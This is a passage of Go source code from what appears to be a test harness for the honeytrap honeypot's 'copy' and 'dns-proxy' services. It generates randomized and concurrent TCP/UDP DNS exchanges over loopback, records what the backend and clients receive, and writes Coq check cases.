				nb := len(e.udpBE.snapshot()) - udp0 + len(e.udpBE2.snapshot()) - udp20
				cmu.Lock()
				nc := len(clientGot)
				cmu.Unlock()
				if nb > 0 && (!expectReply || nc > 0) {
					break
				}
				time.Sleep(time.Millisecond)
			}
			time.Sleep(15 * time.Millisecond)
		}
	}
	time.Sleep(5 * time.Millisecond)
	// observations
	tcps := append(e.rawBE.snapshot()[tcp0:], e.rawBE2.snapshot()[tcp20:]...)
	udps := append(e.udpBE.snapshot()[udp0:], e.udpBE2.snapshot()[udp20:]...)
	for _, c := range tcps {
		select {
		case <-c.done:
		case <-time.After(2 * time.Second):
		}
		e.rawBE.mu.Lock()
		e.rawBE2.mu.Lock()
		ob.Backend = append(ob.Backend, c.got...)
		e.rawBE2.mu.Unlock()
		e.rawBE.mu.Unlock()
	}
	for _, d := range udps {
		ob.Backend = append(ob.Backend, d.data...)
	}
	ob.Dials = len(tcps)
	if len(udps) > 0 {
		// a UDP "connection" is visible only through its datagrams: distinct peers
		peers := map[string]bool{}
		for _, d := range udps {
			peers[d.peer.String()] = true
		}
		ob.Dials += len(peers)
	}
	cmu.Lock()
	ob.Client = append([]byte(nil), clientGot...)
	cmu.Unlock()
	// the event is sent when Handle returns: give it a moment once something was relayed
	evDeadline := time.Now().Add(500 * time.Millisecond)
	var evs []event.Event
	for {
		if rec != nil {
			evs = rec.of(cat, clientAddr)
		} else {
			evs = e.capOf(cat, clientAddr)
			if ev0 <= len(evs) {
				evs = evs[ev0:]
			}
		}
		ob.Events = len(evs)
		if ob.Events > 0 || len(ob.Backend) == 0 || time.Now().After(evDeadline) {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	ob.EvPayloadOK = true
	if in.Svc == "dns-proxy" && in.Transport == "udp" && !ob.Parses {
		for _, ev := range evs {
			if ev.Get("payload") != string(seen) {
				ob.EvPayloadOK = false
			}
		}
	}
	return ob, ""
}

// tcpPairOn makes a loopback TCP connection whose server side has a configured local port.
func (e *env) tcpPairOn(svc string, shared ...bool) (*net.TCPConn, *net.TCPConn, error) {
	ln := e.lnCopy
	if svc == "dns-proxy" {
		ln = e.lnDNS
	}
	if len(shared) > 0 && shared[0] {
		ln = e.lnCopyS
		if svc == "dns-proxy" {
			ln = e.lnDNSS
		}
	}
	type res struct {
		c   net.Conn
		err error
	}
	ch := make(chan res, 1)
	go func() {
		c, err := ln.Accept()
		ch <- res{c, err}
	}()
	cc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		return nil, nil, err
	}
	r := <-ch
	if r.err != nil {
		return nil, nil, r.err
	}
	return r.c.(*net.TCPConn), cc.(*net.TCPConn), nil
}

func dnsQuery(r *hx.Rand) []byte {
	m := new(dns.Msg)
	m.SetQuestion(r.PickStr([]string{"example.com.", "a.b.c.example.org.", "honeypot.local.", "x."}), uint16(r.PickInt([]int{1, 28, 15, 16, 255})))
	m.Id = uint16(r.Intn(65536))
	b, err := m.Pack()
	if err != nil {
		hx.Fatal("dns pack: %v", err)
	}
	return b
}

func dnsAnswer(r *hx.Rand, q []byte) []byte {
	m := new(dns.Msg)
	if err := m.Unpack(q); err != nil {
		return []byte("not-dns-reply")
	}
	a := new(dns.Msg)
	a.SetReply(m)
	if rr, err := dns.NewRR(m.Question[0].Name + " 60 IN A 192.0.2." + fmt.Sprint(r.Range(1, 254))); err == nil {
		a.Answer = append(a.Answer, rr)
	}
	b, err := a.Pack()
	if err != nil {
		hx.Fatal("dns pack: %v", err)
	}
	return b
}

func genRawInputs(o hx.Opts, r *hx.Rand) []RawInput {
	var ins []RawInput
	// corpus: the witnesses of the two repaired findings (copy / dns-proxy behind the wrapper)
	ins = append(ins, RawInput{Svc: "copy", Transport: "tcp", Via: "server", Segs: []hx.B{hx.B("hello backend\n")}, Reply: []hx.B{hx.B("hello client\n")}})
	q := dnsQuery(r)
	ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "udp", Via: "server", Segs: []hx.B{q}, Reply: []hx.B{dnsAnswer(r, q)}})
	// ... and of the repaired dns-proxy findings: a datagram that is not DNS (forwarded, now
	// recorded with its payload and answered); a framed query over a stream written as 1+1+n bytes
	ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "udp", Via: "server",
		Segs: []hx.B{{0x25, 0x60, 0x01, 0xc4, 0x7c, 0x14, 0xaf, 0xae, 0x28, 0x23, 0xa7, 0x92}}, Reply: []hx.B{hx.B("whatever the backend says")}})
	{
		a := dnsAnswer(r, q)
		ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "tcp", Via: "server",
			Segs:  []hx.B{{byte(len(q) >> 8)}, {byte(len(q))}, hx.B(q[:7]), hx.B(q[7:])},
			Reply: []hx.B{{byte(len(a) >> 8)}, append([]byte{byte(len(a))}, a[:5]...), hx.B(a[5:])}})
		// the same deployments on a port shared with a detector service (peek wrapper): a framed
		// query in ONE segment (the proxy's first read takes only the two length bytes), and in pieces
		fq := append([]byte{byte(len(q) >> 8), byte(len(q))}, q...)
		fa := append([]byte{byte(len(a) >> 8), byte(len(a))}, a...)
		ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "tcp", Via: "server", Shared: true, Segs: []hx.B{fq}, Reply: []hx.B{fa}})
		// the backend's answer is cut short / is no framed answer at all: the query was relayed and must be recorded
		ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "tcp", Via: "server", Segs: []hx.B{fq}, Reply: []hx.B{fa[:len(fa)/2]}})
		ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "tcp", Via: "server", Segs: []hx.B{fq}, Reply: []hx.B{{0xff}}})
		ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "tcp", Via: "server", Shared: true, Segs: []hx.B{fq[:9], fq[9:]}, Reply: []hx.B{fa}})
		ins = append(ins, RawInput{Svc: "dns-proxy", Transport: "udp", Via: "server", Shared: true, Segs: []hx.B{q}, Reply: []hx.B{a}})
		ins = append(ins, RawInput{Svc: "copy", Transport: "tcp", Via: "server", Shared: true, Segs: []hx.B{hx.B("first segment, "), hx.B("second")}, Reply: []hx.B{hx.B("ok")}})
		ins = append(ins, RawInput{Svc: "copy", Transport: "udp", Via: "server", Shared: true, Segs: []hx.B{hx.B("datagram")}, Reply: []hx.B{hx.B("ok")}})
		// regression (repaired 7028cca): a datagram beyond the server's 1024-byte peek, on the shared port
		ins = append(ins, RawInput{Svc: "copy", Transport: "udp", Via: "server", Shared: true, Segs: []hx.B{hx.B(bytes.Repeat([]byte("0123456789abcdef"), 80))}, Reply: []hx.B{hx.B("ok")}})
	}
	n := 40
	if o.Tier != "quick" {
		n = 300
	}
	for i := 0; i < n; i++ {
		var in RawInput
		switch r.Intn(9) {
		case 0, 1: // copy over tcp through the server
			in = RawInput{Svc: "copy", Transport: "tcp", Via: "server"}
		case 2: // copy, datagram, through the server
			in = RawInput{Svc: "copy", Transport: "udp", Via: "server"}
		case 3, 4: // dns-proxy, datagram, through the server
			in = RawInput{Svc: "dns-proxy", Transport: "udp", Via: "server"}
		case 5: // dns-proxy over tcp through the server
			in = RawInput{Svc: "dns-proxy", Transport: "tcp", Via: "server"}
		case 6: // copy given the bare *net.TCPConn
			in = RawInput{Svc: "copy", Transport: "tcp", Via: "bare"}
		case 7: // copy given the bare *DummyUDPConn
			in = RawInput{Svc: "copy", Transport: "udp", Via: "bare"}
		default: // dns-proxy given the bare *DummyUDPConn
			in = RawInput{Svc: "dns-proxy", Transport: "udp", Via: "bare"}
		}
		if in.Transport == "udp" {
			var d []byte
			if in.Svc == "dns-proxy" && r.Chance(2, 3) {
				d = dnsQuery(r)
				in.Reply = []hx.B{dnsAnswer(r, d)}
			} else {
				// arbitrary datagram; the backend answers whatever it gets
				d = r.Bytes(r.PickInt([]int{1, 12, 100, 512, 1400}))
				in.Reply = []hx.B{r.Bytes(r.PickInt([]int{1, 50, 1000}))}
			}
			in.Segs = []hx.B{d}
		} else {
			total := r.Bytes(r.PickInt([]int{1, 10, 100, 1000, 5000, 65536}))
			rep := r.Bytes(r.PickInt([]int{1, 10, 100, 1000, 5000, 65536}))
			if in.Svc == "dns-proxy" {
				// DNS over a stream: query and answer carry their two-byte length (RFC 1035 4.2.2)
				q := dnsQuery(r)
				a := dnsAnswer(r, q)
				switch r.Intn(8) {
				case 0: // a long answer
					a = r.Bytes(r.PickInt([]int{5000, 40000, 65535}))
				case 1: // a framed message that is not DNS
					q = r.Bytes(r.PickInt([]int{1, 5, 40}))
				}
				total = append([]byte{byte(len(q) >> 8), byte(len(q))}, q...)
				rep = append([]byte{byte(len(a) >> 8), byte(len(a))}, a...)
				switch r.Intn(8) {
				case 0: // malformed stream: no length prefix
					total = q
				case 1: // malformed stream: cut short
					total = total[:r.Range(1, len(total)-1)]
				}
				if r.Chance(1, 3) { // the whole query in one write
					in.Segs = append(in.Segs, hx.B(total))
					total = nil
				} else if r.Chance(1, 3) { // the length bytes apart
					in.Segs = append(in.Segs, hx.B(total[:1]))
					total = total[1:]
				}
			}
			for _, c := range randCuts(r, len(total)) {
				in.Segs = append(in.Segs, hx.B(total[:c]))
				total = total[c:]
			}
			for _, c := range randCuts(r, len(rep)) {
				in.Reply = append(in.Reply, hx.B(rep[:c]))
				rep = rep[c:]
			}
		}
		if in.Transport == "tcp" && r.Chance(1, 4) {
			in.DelayMs = r.PickInt([]int{20, 50})
		}
		if in.Via == "server" && r.Chance(1, 3) {
			in.Shared = true
		}
		ins = append(ins, in)
	}
	return ins
}

func coqRawCase(id int, in RawInput, ob RawObs) string {
	svc := "SCopy"
	if in.Svc == "dns-proxy" {
		svc = "SDns"
	}
	base := "KTcpConn"
	if in.Transport == "udp" {
		base = "KDummyUdp"
	}
	kind := base
	if in.Via == "server" {
		kind = "(server_wrap " + hx.CoqBool(in.Shared) + " " + base + ")"
	}
	var segs, reps []string
	for _, s := range in.Segs {
		segs = append(segs, coqPacked(s))
	}
	for _, s := range in.Reply {
		reps = append(reps, coqPacked(s))
	}
	return fmt.Sprintf("mkR %s %s %s %s %s %s %s %s %s %s %s", hx.CoqN(uint64(id)), svc, kind, hx.CoqList(segs, "bytes"), hx.CoqList(reps, "bytes"),
		hx.CoqBool(ob.Parses), hx.CoqN(uint64(ob.Dials)), coqPacked(ob.Backend), coqPacked(ob.Client), hx.CoqN(uint64(ob.Events)), hx.CoqBool(ob.EvPayloadOK))
}

func runRawPart(o hx.Opts, r *hx.Rand, e *env, replay *Input) {
	var ins []RawInput
	var concs []ConcScenario
	if replay != nil {
		if replay.Raw.Conc != nil {
			concs = []ConcScenario{*replay.Raw.Conc}
		} else {
			ins = []RawInput{*replay.Raw}
		}
	} else {
		ins = genRawInputs(o, r)
		concs = genConcScenarios(o, r)
	}
	dist := map[string]int{}
	var cases []hx.Case
	decoy0 := e.decoy.count()
	for i, in := range ins {
		ob, crash := e.runRaw(in)
		dist[in.Svc+"/"+in.Transport+"/"+in.Via]++
		if in.Shared {
			dist["shared-port"]++
		}
		dist["payload:"+sizeClass(len(concatB(in.Segs)))]++
		inp := in
		cases = append(cases, hx.Case{ID: i, Kind: "raw-" + in.Via + "-" + in.Svc + "-" + in.Transport, Input: Input{Part: "raw", Raw: &inp}, Obs: ob, Crash: crash, Coq: coqRawCase(i, in, ob)})
	}
	for k := range concs {
		sc := concs[k]
		obs, crash := e.runConc(sc)
		dist[fmt.Sprintf("concurrent:%s/%s/%d-clients", sc.Svc, sc.Transport, len(sc.Clients))]++
		for i := range sc.Clients {
			id := len(cases)
			in := sc.Clients[i]
			in.Svc, in.Transport, in.Via, in.Shared = sc.Svc, sc.Transport, "server", sc.Shared
			full := in
			full.Conc, full.Me = &concs[k], i
			cases = append(cases, hx.Case{ID: id, Kind: "raw-concurrent-" + sc.Svc + "-" + sc.Transport, Input: Input{Part: "raw", Raw: &full}, Obs: obs[i], Crash: crash[i], Coq: coqRawCase(id, in, obs[i])})
		}
	}
	if n := e.decoy.count() - decoy0; n > 0 && len(cases) > 0 && cases[len(cases)-1].Crash == "" {
		cases[len(cases)-1].Crash = fmt.Sprintf("the decoy listener was contacted %d time(s) during the raw part", n)
	}
	hx.Write(o, "C15", "raw", coqHeader+"Import RawCheck.\n", "case", cases, dist, nil, 30)
}

var _ = bytes.Equal
var _ = io.EOF
