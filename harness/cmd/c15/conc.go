// C15 part "raw", concurrent scenarios: 2-3 clients on the SAME service object (the
// server has one per configured service), their writes interleaved by a script at segment
// granularity.  Every client has its own ids / names / payload, so that cross-talk between
// connections shows; every client is judged on its own: the backend received exactly its
// query, it received exactly its answer, its event carries its own question and address.
package main

import (
	"bytes"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/miekg/dns"
	"verif/harness/hx"
)

type ConcStep struct {
	Client int  `json:"client"`
	Seg    int  `json:"seg"`  // index of the client's write to perform now (-1: none)
	Wait   bool `json:"wait"` // then wait until this client has its whole answer
}

type ConcScenario struct {
	Svc       string     `json:"service"`
	Transport string     `json:"transport"`
	Clients   []RawInput `json:"clients"` // Segs / Reply per client
	Steps     []ConcStep `json:"steps"`
	Parallel  bool       `json:"parallel"` // datagrams: all clients are handed to the server at once
	Shared    bool       `json:"shared_port,omitempty"`
}

type concClient struct {
	cc     net.Conn
	addr   net.Addr
	mu     sync.Mutex
	got    []byte
	rd     chan struct{}
	uc     *listener.DummyUDPConn
	opened bool
}

func (c *concClient) received() []byte {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]byte(nil), c.got...)
}

// runConc runs one scenario and returns one observation per client.
func (e *env) runConc(sc ConcScenario) ([]RawObs, []string) {
	rawMu.Lock()
	defer rawMu.Unlock()
	n := len(sc.Clients)
	obs := make([]RawObs, n)
	crash := make([]string, n)
	cat := catOf(sc.Svc)
	// what each client's exchange looks like at the backend
	expect := make([][]byte, n)
	wantReply := make([][]byte, n)
	for i, cl := range sc.Clients {
		sent := concatB(cl.Segs)
		expect[i] = sent
		if sc.Transport == "udp" {
			obs[i].Parses = new(dns.Msg).Unpack(sent) == nil
			if len(cl.Reply) > 0 {
				wantReply[i] = cl.Reply[0]
			}
		} else {
			wantReply[i] = concatB(cl.Reply)
			if sc.Svc == "dns-proxy" {
				if m, ok := dnsFrame(sent); ok {
					obs[i].Parses = new(dns.Msg).Unpack(m) == nil
					expect[i] = sent[:2+len(m)]
				}
			}
		}
	}
	var keyed []keyedScript
	for i, cl := range sc.Clients {
		var rep [][]byte
		for _, r := range cl.Reply {
			rep = append(rep, r)
		}
		keyed = append(keyed, keyedScript{Expect: expect[i], Reply: rep})
	}
	tcpBEs := []*rawBackend{e.rawBE, e.rawBE2}
	udpBEs := []*udpBackend{e.udpBE, e.udpBE2}
	var tcp0, udp0 []int
	for _, rb := range tcpBEs {
		rb.mu.Lock()
		rb.keyed = keyed
		tcp0 = append(tcp0, len(rb.conns))
		rb.mu.Unlock()
	}
	defer func() {
		for _, rb := range tcpBEs {
			rb.mu.Lock()
			rb.keyed = nil
			rb.mu.Unlock()
		}
	}()
	for _, ub := range udpBEs {
		ub.mu.Lock()
		ub.reply = func(d []byte) []byte {
			for _, k := range keyed {
				if bytes.Equal(d, k.Expect) && len(k.Reply) > 0 {
					return k.Reply[0]
				}
			}
			return []byte("unknown")
		}
		udp0 = append(udp0, len(ub.got))
		ub.mu.Unlock()
	}
	clients := make([]*concClient, n)
	ev0 := make([]int, n)
	open := func(i int) string {
		c := &concClient{rd: make(chan struct{})}
		clients[i] = c
		if sc.Transport == "tcp" {
			srv, cc, err := e.tcpPairOn(sc.Svc, sc.Shared)
			if err != nil {
				hx.Fatal("tcp pair: %v", err)
			}
			c.cc, c.addr = cc, cc.LocalAddr()
			ev0[i] = e.capCount(cat, c.addr)
			if !inject(srv) {
				return "server does not accept"
			}
			go func() {
				defer close(c.rd)
				buf := make([]byte, 65536)
				for {
					cc.SetReadDeadline(time.Now().Add(4 * time.Second))
					k, err := cc.Read(buf)
					c.mu.Lock()
					c.got = append(c.got, buf[:k]...)
					c.mu.Unlock()
					if err != nil {
						return
					}
				}
			}()
		} else {
			port := 7000
			if sc.Svc == "dns-proxy" {
				port = 53
			}
			if sc.Shared {
				port++
			}
			raddr := &net.UDPAddr{IP: net.ParseIP("198.51.100.7"), Port: 10000 + int(atomic.AddInt32(&udpSeq, 1))%50000}
			c.addr = raddr
			ev0[i] = e.capCount(cat, c.addr)
			c.uc = &listener.DummyUDPConn{Buffer: append([]byte(nil), concatB(sc.Clients[i].Segs)...),
				Laddr: &net.UDPAddr{IP: net.ParseIP("127.0.0.1"), Port: port}, Raddr: raddr,
				Fn: func(b []byte, addr *net.UDPAddr) (int, error) {
					c.mu.Lock()
					c.got = append(c.got, b...)
					c.mu.Unlock()
					return len(b), nil
				}}
		}
		c.opened = true
		return ""
	}
	waitAnswer := func(i int) {
		deadline := time.Now().Add(2500 * time.Millisecond)
		for time.Now().Before(deadline) {
			if len(clients[i].received()) >= len(wantReply[i]) && len(wantReply[i]) > 0 {
				return
			}
			if sc.Transport == "tcp" {
				select {
				case <-clients[i].rd:
					return
				default:
				}
			}
			time.Sleep(time.Millisecond)
		}
	}
	if sc.Transport == "udp" {
		// datagrams: each is handled by its own goroutine of the server; hand them over
		// together (Parallel) or one after the other as the steps say
		for i := range sc.Clients {
			if msg := open(i); msg != "" {
				crash[i] = msg
			}
		}
		if sc.Parallel {
			var wg sync.WaitGroup
			for i := range clients {
				wg.Add(1)
				go func(i int) {
					defer wg.Done()
					if !inject(clients[i].uc) {
						crash[i] = "server does not accept"
					}
				}(i)
			}
			wg.Wait()
			for i := range clients {
				waitAnswer(i)
			}
		} else {
			for _, st := range sc.Steps {
				if st.Seg >= 0 && !inject(clients[st.Client].uc) {
					crash[st.Client] = "server does not accept"
				}
				if st.Wait {
					waitAnswer(st.Client)
				}
			}
		}
		time.Sleep(15 * time.Millisecond)
	} else {
		for _, st := range sc.Steps {
			i := st.Client
			if clients[i] == nil {
				if msg := open(i); msg != "" {
					crash[i] = msg
					continue
				}
				time.Sleep(3 * time.Millisecond)
			}
			if st.Seg >= 0 && st.Seg < len(sc.Clients[i].Segs) {
				clients[i].cc.Write(sc.Clients[i].Segs[st.Seg])
				if st.Seg == len(sc.Clients[i].Segs)-1 && sc.Svc == "dns-proxy" {
					clients[i].cc.(*net.TCPConn).CloseWrite()
				}
				// let the proxy take it in before anybody else moves
				time.Sleep(4 * time.Millisecond)
			}
			if st.Wait {
				waitAnswer(i)
			}
		}
		for i, c := range clients {
			if c == nil {
				continue
			}
			waitAnswer(i)
			select {
			case <-c.rd:
			case <-time.After(1500 * time.Millisecond):
			}
			c.cc.Close()
		}
		time.Sleep(10 * time.Millisecond)
	}
	// backend side: connections / datagrams of this scenario, told apart by content
	var bconns [][]byte
	for k, rb := range tcpBEs {
		for _, c := range rb.snapshot()[tcp0[k]:] {
			select {
			case <-c.done:
			case <-time.After(2500 * time.Millisecond):
			}
			rb.mu.Lock()
			bconns = append(bconns, append([]byte(nil), c.got...))
			rb.mu.Unlock()
		}
	}
	for k, ub := range udpBEs {
		for _, d := range ub.snapshot()[udp0[k]:] {
			bconns = append(bconns, d.data)
		}
	}
	assigned := make([]int, n)
	for i := range assigned {
		assigned[i] = -1
	}
	used := make([]bool, len(bconns))
	for i := range sc.Clients { // exact matches first
		for j, b := range bconns {
			if !used[j] && bytes.Equal(b, expect[i]) {
				assigned[i], used[j] = j, true
				break
			}
		}
	}
	for i := range sc.Clients { // then whatever is left, in order
		if assigned[i] >= 0 {
			continue
		}
		for j := range bconns {
			if !used[j] {
				assigned[i], used[j] = j, true
				break
			}
		}
	}
	extra := 0
	for j := range bconns {
		if !used[j] {
			extra++
		}
	}
	// events, per client address
	deadline := time.Now().Add(500 * time.Millisecond)
	evs := make([][]event.Event, n)
	for {
		all := true
		for i, c := range clients {
			if c == nil {
				continue
			}
			l := e.capOf(cat, c.addr)
			if ev0[i] <= len(l) {
				l = l[ev0[i]:]
			}
			evs[i] = l
			if len(l) == 0 && assigned[i] >= 0 {
				all = false
			}
		}
		if all || time.Now().After(deadline) {
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	for i, c := range clients {
		if c == nil {
			continue
		}
		if assigned[i] >= 0 {
			obs[i].Dials = 1
			obs[i].Backend = bconns[assigned[i]]
		}
		if i == 0 {
			obs[i].Dials += extra // backend connections nobody can account for
		}
		obs[i].Client = c.received()
		obs[i].Events = len(evs[i])
		obs[i].EvPayloadOK = true
		sent := concatB(sc.Clients[i].Segs)
		msg := sent
		if sc.Transport == "tcp" {
			if m, ok := dnsFrame(sent); ok {
				msg = m
			}
		}
		if sc.Svc == "dns-proxy" {
			q := new(dns.Msg)
			if q.Unpack(msg) == nil && len(q.Question) > 0 {
				// the event must carry THIS client's question
				for _, ev := range evs[i] {
					if ev.Get("dns.id") != fmt.Sprint(q.Id) || !strings.Contains(ev.Get("dns.message"), q.Question[0].Name) {
						obs[i].EvPayloadOK = false
					}
				}
			} else if sc.Transport == "udp" {
				for _, ev := range evs[i] {
					if ev.Get("payload") != string(sent) {
						obs[i].EvPayloadOK = false
					}
				}
			}
		}
	}
	return obs, crash
}

// ---------- scenarios ----------

func concDNSClient(r *hx.Rand, k int, tcp bool, cutMode int) RawInput {
	m := new(dns.Msg)
	name := fmt.Sprintf("client-%c-%s.example.", 'a'+k, string(r.BytesFrom(6+3*k, []byte("abcdefghijklmnopqrstuvwxyz"))))
	m.SetQuestion(name, uint16(r.PickInt([]int{1, 28, 16})))
	m.Id = uint16(0x1100*(k+1) + r.Intn(200))
	q, err := m.Pack()
	if err != nil {
		hx.Fatal("dns pack: %v", err)
	}
	a := dnsAnswer(r, q)
	in := RawInput{Svc: "dns-proxy", Transport: "udp", Via: "server"}
	if !tcp {
		in.Segs, in.Reply = []hx.B{q}, []hx.B{a}
		return in
	}
	in.Transport = "tcp"
	fq := append([]byte{byte(len(q) >> 8), byte(len(q))}, q...)
	fa := append([]byte{byte(len(a) >> 8), byte(len(a))}, a...)
	var cut int
	switch cutMode {
	case 0:
		cut = 1 // between the two length bytes
	case 1:
		cut = 2 // after the length
	case 2:
		cut = 2 + 2 + r.Intn(10) // inside the header
	case 3:
		cut = 14 + r.Intn(len(fq)-16) // inside the question
	default:
		cut = len(fq) // whole
	}
	if cut >= len(fq) {
		in.Segs = []hx.B{fq}
	} else {
		in.Segs = []hx.B{fq[:cut], fq[cut:]}
	}
	for _, c := range randCuts(r, len(fa)) {
		in.Reply = append(in.Reply, hx.B(fa[:c]))
		fa = fa[c:]
	}
	return in
}

// interleave: client 0's first write, then clients 1.. complete exchanges, then client 0's
// rest; rotation rotates the roles.
func concSteps(clients []RawInput, first int) []ConcStep {
	n := len(clients)
	var st []ConcStep
	a := first % n
	st = append(st, ConcStep{Client: a, Seg: 0})
	for d := 1; d < n; d++ {
		b := (a + d) % n
		if d == 1 || len(clients[b].Segs) == 1 {
			for k := range clients[b].Segs {
				st = append(st, ConcStep{Client: b, Seg: k, Wait: k == len(clients[b].Segs)-1})
			}
		} else {
			// three-way: this one also stops after its first write, and finishes after the first client
			st = append(st, ConcStep{Client: b, Seg: 0})
		}
	}
	for k := 1; k < len(clients[a].Segs); k++ {
		st = append(st, ConcStep{Client: a, Seg: k, Wait: k == len(clients[a].Segs)-1})
	}
	if len(clients[a].Segs) == 1 {
		st = append(st, ConcStep{Client: a, Seg: -1, Wait: true})
	}
	for d := 1; d < n; d++ {
		b := (a + d) % n
		if !(d == 1 || len(clients[b].Segs) == 1) {
			for k := 1; k < len(clients[b].Segs); k++ {
				st = append(st, ConcStep{Client: b, Seg: k, Wait: k == len(clients[b].Segs)-1})
			}
		}
	}
	return st
}

func genConcScenarios(o hx.Opts, r *hx.Rand) []ConcScenario {
	var out []ConcScenario
	// corpus: A's framed query cut inside the question, B a whole exchange in between
	{
		cl := []RawInput{concDNSClient(r, 0, true, 3), concDNSClient(r, 1, true, 4)}
		out = append(out, ConcScenario{Svc: "dns-proxy", Transport: "tcp", Clients: cl, Steps: concSteps(cl, 0)})
	}
	rounds := 1
	if o.Tier != "quick" {
		rounds = 6
	}
	for round := 0; round < rounds; round++ {
		// dns-proxy over a stream: every kind of cut for the interrupted client, 2 and 3 clients, rotations
		for cutMode := 0; cutMode < 4; cutMode++ {
			n := 2 + (cutMode+round)%2
			var cl []RawInput
			for k := 0; k < n; k++ {
				cm := 4
				if k == 0 || (n == 3 && k == 2) {
					cm = (cutMode + k) % 4
				}
				cl = append(cl, concDNSClient(r, k, true, cm))
			}
			out = append(out, ConcScenario{Svc: "dns-proxy", Transport: "tcp", Clients: cl, Steps: concSteps(cl, (cutMode+round)%n), Shared: (cutMode+round)%2 == 1})
		}
		// dns-proxy datagrams: handed over together (handled by parallel goroutines), and one by one
		for _, par := range []bool{true, true, false} {
			n := r.Range(2, 3)
			var cl []RawInput
			var st []ConcStep
			for k := 0; k < n; k++ {
				c := concDNSClient(r, k, false, 0)
				if k == n-1 && r.Chance(1, 3) { // one that is not DNS
					c.Segs = []hx.B{hx.B(fmt.Sprintf("not-dns-from-client-%d-", k) + string(r.Bytes(8)))}
					c.Reply = []hx.B{hx.B(fmt.Sprintf("answer-for-%d", k))}
				}
				cl = append(cl, c)
				st = append(st, ConcStep{Client: k, Seg: 0, Wait: true})
			}
			out = append(out, ConcScenario{Svc: "dns-proxy", Transport: "udp", Clients: cl, Steps: st, Parallel: par})
		}
		// copy over a stream: interleaved writes of distinct payloads
		{
			n := r.Range(2, 3)
			var cl []RawInput
			for k := 0; k < n; k++ {
				pay := bytes.Repeat([]byte{byte('A' + k)}, r.PickInt([]int{10, 1000, 20000}))
				rep := bytes.Repeat([]byte{byte('a' + k)}, r.PickInt([]int{10, 1000, 20000}))
				c := RawInput{Svc: "copy", Transport: "tcp", Via: "server"}
				cut := r.Range(1, len(pay)-1)
				c.Segs = []hx.B{pay[:cut], pay[cut:]}
				for _, x := range randCuts(r, len(rep)) {
					c.Reply = append(c.Reply, hx.B(rep[:x]))
					rep = rep[x:]
				}
				cl = append(cl, c)
			}
			out = append(out, ConcScenario{Svc: "copy", Transport: "tcp", Clients: cl, Steps: concSteps(cl, round%n)})
		}
		// copy datagrams in parallel
		{
			n := r.Range(2, 3)
			var cl []RawInput
			var st []ConcStep
			for k := 0; k < n; k++ {
				cl = append(cl, RawInput{Svc: "copy", Transport: "udp", Via: "server",
					Segs:  []hx.B{bytes.Repeat([]byte{byte('A' + k)}, r.PickInt([]int{5, 500, 1400}))},
					Reply: []hx.B{bytes.Repeat([]byte{byte('a' + k)}, r.PickInt([]int{5, 500}))}})
				st = append(st, ConcStep{Client: k, Seg: 0, Wait: true})
			}
			out = append(out, ConcScenario{Svc: "copy", Transport: "udp", Clients: cl, Steps: st, Parallel: true})
		}
	}
	return out
}
