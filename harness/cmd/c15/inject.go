// Injecting listener for the C15 harness: the lab's recording listener (obtained through
// the public registry, so that lab.Start's start-up handshake and capture channels work)
// with an Accept fed by the harness.  The connection handed to the server is whatever the
// harness chooses (in-memory pipe with chosen addresses, a real *net.TCPConn, a
// DummyUDPConn); the server then treats it exactly as one from the socket listener
// (findService, server.TimeoutConn, Handle).
package main

import (
	"context"
	"net"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/pushers"
)

var injCh = make(chan net.Conn)

type injListener struct {
	inner listener.Listener
}

func (l *injListener) AddAddress(a net.Addr) {
	if x, ok := l.inner.(listener.AddAddresser); ok {
		x.AddAddress(a)
	}
}
func (l *injListener) SetChannel(c pushers.Channel) {
	if x, ok := l.inner.(listener.SetChanneler); ok {
		x.SetChannel(c)
	}
}
func (l *injListener) Start(ctx context.Context) error { return l.inner.Start(ctx) }
func (l *injListener) Accept() (net.Conn, error) {
	c := <-injCh
	return c, nil
}

func init() {
	listener.Register("c15-inj", func(opts ...func(listener.Listener) error) (listener.Listener, error) {
		fn, ok := listener.Get("verif-rec")
		if !ok {
			panic("verif-rec listener not registered")
		}
		inner, err := fn()
		if err != nil {
			return nil, err
		}
		l := &injListener{inner: inner}
		for _, o := range opts {
			o(l)
		}
		return l, nil
	})
}

// inject hands a connection to the running server.
func inject(c net.Conn) bool {
	select {
	case injCh <- c:
		return true
	case <-time.After(5 * time.Second):
		return false
	}
}

// addrConn overrides the addresses of a connection and signals its Close.
type addrConn struct {
	net.Conn
	L, R   net.Addr
	closed chan struct{}
	once   sync.Once
}

func (c *addrConn) LocalAddr() net.Addr  { return c.L }
func (c *addrConn) RemoteAddr() net.Addr { return c.R }
func (c *addrConn) Close() error {
	c.once.Do(func() { close(c.closed) })
	return c.Conn.Close()
}

// tcpPair returns the two ends of a real loopback TCP connection (server side first).
func tcpPair() (*net.TCPConn, *net.TCPConn, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, nil, err
	}
	defer ln.Close()
	type res struct {
		c   net.Conn
		err error
	}
	ch := make(chan res, 1)
	go func() {
		c, err := ln.Accept()
		ch <- res{c, err}
	}()
	cc, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		return nil, nil, err
	}
	r := <-ch
	if r.err != nil {
		cc.Close()
		return nil, nil, r.err
	}
	return r.c.(*net.TCPConn), cc.(*net.TCPConn), nil
}
