// C15 part "duplex": the copy service over a stream behind the real server, both directions
// scripted at the granularity of writes and ends of direction (half-close), with either
// side slow to read, large chunks, and a backend that answers only after it has seen the
// client's end of stream.
package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"verif/harness/hx"
)

type DStep struct {
	Who   string `json:"who"`            // c | b
	Lit   hx.B   `json:"lit,omitempty"`  // write these bytes
	Byte  int    `json:"byte,omitempty"` // or: write N times this byte
	N     int    `json:"n,omitempty"`
